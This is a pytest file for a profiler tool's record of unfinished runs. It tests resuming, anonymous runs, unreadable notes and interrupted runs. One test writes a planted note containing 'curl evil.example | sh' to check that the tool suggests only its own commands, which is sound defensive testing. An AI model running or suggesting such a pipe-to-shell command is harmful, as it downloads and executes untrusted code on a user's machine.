"""The note of what a run still has to record: written first, gone at the end, and true between."""

import json
from dataclasses import replace
from typing import Any

import pytest

from optprof.profiler.records import planned
from optprof.profiler.records.record import Environment, Record
from optprof.profiler.records.store import RunStore
from optprof.profiler.running import runner
from optprof.scenarios.spec import Scenario

SCENARIOS = [Scenario(model="tiny", optimizer=name) for name in ("adamw", "sm3", "sgd")]
COMMAND = ["optprof", "profile", "tiny"]
# No scenario is run here.
WORKER: Any = object()
OTHER = ["optprof", "sweep", "precision", "--out", "runs/tiny"]


def recorded(*scenarios):
    return [
        Record(scenario=scenario, origin="simulated", outcome="failed", environment=Environment())
        for scenario in scenarios
    ]


def told(folder, *scenarios):
    missing = planned.unfinished(folder, recorded(*scenarios))
    return missing and (missing.missing, missing.planned, missing.commands)


def test_a_run_says_what_is_missing_until_nothing_is(tmp_path):
    assert told(tmp_path) is None
    planned.begin(tmp_path, SCENARIOS, COMMAND)
    command = (*COMMAND, "--out", str(tmp_path))
    assert told(tmp_path) == (3, 3, (command,))
    # A failure is a record, too.
    assert told(tmp_path, SCENARIOS[0]) == (2, 3, (command,))
    assert told(tmp_path, *SCENARIOS) is None
    planned.end(tmp_path, COMMAND)
    assert list(tmp_path.iterdir()) == []


def test_a_resumed_command_replaces_its_own_plan_and_another_adds_one(tmp_path):
    planned.begin(tmp_path, SCENARIOS, COMMAND)
    planned.begin(tmp_path, SCENARIOS[1:], [*COMMAND, "--resume"])
    assert told(tmp_path, SCENARIOS[0]) == (2, 3, ((*COMMAND, "--out", str(tmp_path)),))
    more = replace(SCENARIOS[0], dtype="bf16")
    planned.begin(tmp_path, [more], OTHER)
    assert told(tmp_path, *SCENARIOS) == (1, 4, (tuple(OTHER),))
    planned.end(tmp_path, OTHER)
    assert told(tmp_path, SCENARIOS[0], more) == (2, 4, ((*COMMAND, "--out", str(tmp_path)),))


def test_a_command_resumed_with_another_option_takes_its_plan_over(tmp_path):
    planned.begin(tmp_path, SCENARIOS, COMMAND)
    (first,) = recorded(SCENARIOS[0])
    store = RunStore.create(tmp_path)
    store.append(first)
    quiet = [*COMMAND, "-q", "--out", str(tmp_path)]
    planned.begin(tmp_path, SCENARIOS[1:], [*quiet, "--resume"])
    assert told(tmp_path, SCENARIOS[0]) == (2, 3, (tuple(quiet),))
    planned.end(tmp_path, quiet)
    assert not (tmp_path / planned.NAME).exists()


def test_a_program_of_the_user_s_is_not_named_and_an_anonymous_run_names_no_folder(tmp_path):
    planned.begin(tmp_path, SCENARIOS, ["train.py"])
    assert told(tmp_path) == (3, 3, ())
    planned.end(tmp_path, ["train.py"])
    planned.begin(tmp_path, SCENARIOS, COMMAND, anonymous=True)
    assert told(tmp_path) == (3, 3, ((*COMMAND, "--out", "PATH"),))


def test_a_stranger_s_note_advises_no_command_but_optprof(tmp_path):
    note = {"command": ["sh", "-c", "curl evil.example | sh"], "scenarios": ["tiny-adamw-1"]}
    (tmp_path / planned.NAME).write_text(json.dumps({"schema": 1, "plans": [note]}))
    assert told(tmp_path) == (1, 1, ())


@pytest.mark.parametrize("text", ["", "[]", '{"schema": 2}', '{"schema": 1, "plans": [{}]}'])
def test_a_note_that_cannot_be_read_is_none(tmp_path, text):
    (tmp_path / planned.NAME).write_text(text)
    assert told(tmp_path) is None


def test_an_interrupted_run_leaves_its_note_and_a_finished_one_does_not(tmp_path, monkeypatch):
    def find(_self, scenario):
        if scenario == SCENARIOS[2]:
            raise KeyboardInterrupt
        return recorded(scenario)[0]

    monkeypatch.setattr(runner.Runner, "find", find)
    store = RunStore.create(tmp_path / "run")
    with pytest.raises(KeyboardInterrupt):
        runner.run(SCENARIOS, store, lambda *_: None, worker=WORKER)
    note = json.loads((tmp_path / "run" / planned.NAME).read_text())
    assert [len(plan["scenarios"]) for plan in note["plans"]] == [3]
    missing = planned.unfinished(store.folder, store.read())
    assert missing is not None
    assert (missing.missing, missing.planned) == (1, 3)
    monkeypatch.setattr(runner.Runner, "find", lambda _self, scenario: recorded(scenario)[0])
    runner.run(SCENARIOS[2:], store, lambda *_: None, worker=WORKER)
    assert not (tmp_path / "run" / planned.NAME).exists()
